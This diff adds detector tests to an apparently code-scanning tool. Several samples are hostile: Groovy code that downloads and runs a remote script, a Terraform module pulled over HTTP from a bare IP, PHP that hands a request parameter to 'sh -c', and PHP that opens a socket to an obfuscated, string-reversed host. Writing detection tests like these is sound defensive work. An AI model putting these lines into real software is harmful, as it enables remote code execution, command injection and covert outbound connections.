@@ -457,3 +457,25 @@ it('never throws, and is quick on what is made to be slow', () => {
     for (const piece of pieces) expect(() => analyseOther(`exec ${piece.repeat(Math.ceil(20_000 / piece.length))}`, dialect, () => [])).not.toThrow()
   expect(performance.now() - started).toBeLessThan(20_000)
 }, 30_000)
+
+describe('what only looks as if it ran something', () => {
+  it.each<[Dialect, string]>([
+    ['ruby', 'def cursor\n  @cursor ||= JSON.parse(Base64.decode64(params[:cursor])).symbolize_keys\nend'],
+    [
+      'go',
+      'ctx, span := tracer.Start(ctx, "createOrder", trace.WithAttributes(attribute.Float64("order.amount", r.Amount), attribute.String("order.currency", r.Currency)))',
+    ],
+    ['swift', 'let url = URL(string: "https://example.com/form")!\nlet request = URLRequest(url: url)\nwebView.load(request)'],
+    ['java', 'webView.loadUrl("https://example.com/form");'],
+    ['kotlin', 'body = InAppWebView(initialUrlRequest = URLRequest(url = Uri.parse("https://example.com/form")))'],
+    ['terraform', 'task "etl" {\n  artifact {\n    source = "https://data.example.com/in.csv"\n    destination = "local"\n  }\n}'],
+    ['php', "$process = new Process(['ping', '-c', '4', $_GET['ip']]);\n$process->run();"],
+  ])('%s: %s', (dialect, code) => expect(found(dialect, code)).toEqual([]))
+
+  it.each<[Dialect, string]>([
+    ['groovy', 'new GroovyShell().parse(new URL("http://203.0.113.9/x").text).run()'],
+    ['terraform', 'module "m" {\n  source = "http://203.0.113.9/m.zip"\n}'],
+    ['php', "$process = new Process(['sh', '-c', $_GET['ip']]);"],
+    ['php', "$run = strrev('moc.live'); fsockopen($run, 443);"],
+  ])('%s: %s is found', (dialect, code) => expect(found(dialect, code).some((one) => one.startsWith('error'))).toBe(true))
+})
